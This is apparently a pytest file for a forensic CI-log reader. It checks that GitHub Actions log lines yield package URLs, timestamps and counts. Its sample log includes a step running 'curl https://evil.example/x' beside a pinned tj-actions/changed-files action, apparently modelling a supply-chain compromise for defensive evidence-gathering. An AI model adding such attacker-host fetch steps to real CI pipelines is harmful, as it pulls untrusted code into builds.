"""Logs of CI runs."""

from __future__ import annotations

from tests.evidence.packages_contract import purls
from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything
from tests.evidence_kit import PLANT, read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.ci_log import CiLog
from nachsorge.model.times import parse_instant
from nachsorge.model.words import Telemetry

COMMIT = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
BODY = f"""\ufeff2025-03-14T12:00:00.1234567Z Current runner version: '2.322.0'
2025-03-14T12:00:01.0000000Z Download action repository 'actions/checkout@v4' (SHA:{"11bd7" * 8})
2025-03-14T12:00:02.0000000Z Download action repository 'tj-actions/changed-files@v44' (SHA:{COMMIT})
2025-03-14T12:00:03.0000000Z Pull down action image 'alpine:3.20'
2025-03-14T12:00:04.0000000Z ##[group]Run curl https://evil.example/x
2025-03-14T12:00:05.0000000Z
the rest of a message
2025-03-14T12:10:00.0000000Z Cleaning up orphan processes
""".encode()
WANTED = {
    "pkg:githubactions/actions/checkout@v4",
    "pkg:githubactions/actions/checkout@" + "11bd7" * 8,
    "pkg:githubactions/tj-actions/changed-files@v44",
    f"pkg:githubactions/tj-actions/changed-files@{COMMIT}",
    "pkg:docker/alpine@3.20",
}


def test_a_run():
    assert reader_for(BODY, "1_build.txt").name == "ci_log"
    records, ledger = read_bytes(CiLog(), BODY, name="logs/1_build.txt")
    assert purls(records) == WANTED
    assert {record.telemetry for record in records} == {Telemetry.CI_LOG}
    assert (len(records), ledger.records, ledger.unreadable, ledger.host) == (8, 8, 0, "logs/")
    assert ledger.first == parse_instant("2025-03-14T12:00:00.123456Z")
    assert ledger.last == parse_instant("2025-03-14T12:10:00Z")


def test_what_the_command_line_tool_gives():
    body = b"".join(b"build\tUNKNOWN STEP\t" + line + b"\n" for line in BODY.split(b"\n")[1:5])
    assert reader_for(body, "run.log").name == "ci_log"
    assert purls(read_bytes(CiLog(), body)[0]) == WANTED


def test_the_contract():
    holds_with_and_without_sieve(CiLog(), BODY, b"changed-files")
    survives_anything(CiLog(), BODY)
    for head in (b"", BODY, b"build\tstep\t2025-03-14T12:00:01.0000000Z x\n"):
        planted = CiLog().plant(head, PLANT)
        assert reader_for(planted or b"", "").name == "ci_log"
        (record,), _ = read_bytes(CiLog(), planted or b"")
        assert PLANT.host in record.event["message"]


def test_other_logs_are_left_alone():
    assert CiLog().accepts(b"2025-03-14T12:00:00.123456Z host app[1]: x\n", "x.log") == 0
